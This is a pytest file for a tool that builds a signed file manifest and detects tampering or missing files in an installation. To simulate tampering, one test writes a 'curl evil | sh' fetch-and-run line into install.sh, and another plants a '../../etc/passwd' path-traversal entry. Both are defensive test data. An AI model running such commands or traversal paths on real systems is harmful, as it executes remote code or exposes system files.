"""vv-signature.json: CI fails while it is stale; `vv verify-install` catches tampering."""

import json
import shutil
import subprocess
import sys

import pytest

from tests.helpers import REPO_ROOT, repo_env
from tools.signature import (
    MANIFEST_NAME,
    build_manifest,
    describe,
    is_stale,
    main,
    verify_install,
    write_manifest,
)
from vv_core.errors import VVError


def test_committed_signature_is_up_to_date():
    assert not is_stale(REPO_ROOT), f"{MANIFEST_NAME} is stale: run `make signature` and commit it"


def test_signature_covers_shipped_files_only():
    files = build_manifest(REPO_ROOT)["files"]
    assert "install.sh" in files and "docker-compose.yml" in files and "vv_cli/main.py" in files
    assert MANIFEST_NAME not in files
    assert not any(name.startswith((".venv/", "storage/", "wheelhouse/a")) for name in files)


@pytest.fixture
def install_copy(tmp_path):
    """A git checkout with a few shipped files and their manifest, like an installed box."""
    root = tmp_path / "install"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "vv_cli").mkdir()
    for name in ("install.sh", "vv_cli/main.py", "README.md"):
        shutil.copy(REPO_ROOT / name, root / name)
    subprocess.run(["git", "-C", str(root), "add", "."], check=True)
    write_manifest(root)
    return root


def test_verify_passes_on_an_untouched_install_and_ignores_unshipped_files(install_copy):
    (install_copy / ".env").write_text("LOG_LEVEL=INFO\n")  # made by the install, not shipped
    report = verify_install(install_copy)
    assert report.ok and report.checked == 3
    assert describe(report) == "3 files verified"


def test_verify_names_modified_and_missing_files(install_copy):
    (install_copy / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (install_copy / "README.md").unlink()
    report = verify_install(install_copy)
    assert report.modified == ["install.sh"] and report.missing == ["README.md"]
    assert describe(report) == "1 modified: install.sh; 1 missing: README.md"


def test_verify_refuses_a_manifest_pointing_outside(install_copy):
    manifest = json.loads((install_copy / MANIFEST_NAME).read_text())
    manifest["files"]["../../etc/passwd"] = "0" * 64
    (install_copy / MANIFEST_NAME).write_text(json.dumps(manifest))
    with pytest.raises(VVError, match="outside the install"):
        verify_install(install_copy)


@pytest.mark.parametrize("content", [None, "not json", '{"algorithm": "md5", "files": {}}'])
def test_verify_refuses_a_missing_or_malformed_manifest(install_copy, content):
    path = install_copy / MANIFEST_NAME
    if content is None:
        path.unlink()
    else:
        path.write_text(content)
    with pytest.raises(VVError):
        verify_install(install_copy)


def test_long_lists_are_shortened():
    from tools.signature import VerifyReport

    report = VerifyReport(checked=9, modified=[f"f{i}" for i in range(7)])
    assert describe(report).endswith("(+2 more)")


def test_generate_and_check_commands(install_copy, capsys):
    assert main(["check", "--root", str(install_copy)]) == 0
    (install_copy / "vv_cli" / "main.py").write_text("# changed\n")
    assert main(["check", "--root", str(install_copy)]) == 1
    assert "make signature" in capsys.readouterr().err
    assert main(["generate", "--root", str(install_copy)]) == 0
    assert main(["check", "--root", str(install_copy)]) == 0
    outside = install_copy.parent / "not-git"
    outside.mkdir()
    assert main(["generate", "--root", str(outside)]) == 1


def test_vv_verify_install_cli(install_copy):
    def run():
        return subprocess.run([sys.executable, "-m", "vv_cli.main", "verify-install", "--root", str(install_copy)],
                              capture_output=True, text=True, env=repo_env(), check=False)

    good = run()
    assert good.returncode == 0 and "3 files verified" in good.stdout
    (install_copy / "install.sh").write_text("tampered\n")
    bad = run()
    assert bad.returncode == 1
    assert bad.stderr.count("\n") == 1 and "1 modified: install.sh" in bad.stderr
